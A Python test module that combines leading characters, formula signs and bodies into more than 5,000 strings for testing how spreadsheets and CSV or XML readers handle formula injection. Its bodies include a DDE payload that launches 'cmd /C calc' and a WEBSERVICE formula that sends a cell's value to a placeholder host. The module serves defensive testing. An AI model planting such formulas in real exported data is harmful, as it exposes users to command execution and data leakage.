"""Texts that a spreadsheet, a CSV reader or an XML reader might take for something else."""

from __future__ import annotations

import itertools

LEADS = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2003",
    "\x00",
    "'",
    '"',
    ",",
    "\u202e",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "=-", "@=", "+=", "-=", "{=", "%", "|")  # noqa: RUF001
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org","x")',
    "SUM(1;2)",
    'WEBSERVICE("http://example.org/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "Team 7",
    "3",
    "http://example.org",
    "mailto:a@example.org",
    "internal:'Cover'!A1",
    "external:c:\\x.xlsx",
    "<f>1</f>",
    "]]>&lt;",
    "_x0041_",
    "\ud800\ufffe\x07",
    '","=1+1',
    '"\n=1+1',
    "é€😀",
    "TRUE",
    "1E5",
)

HOSTILE = tuple(lead + sign + body for lead, sign, body in itertools.product(LEADS, SIGNS, BODIES))
"""Every beginning with every sign and every body: more than 5,000 texts."""

assert len(HOSTILE) >= 5000
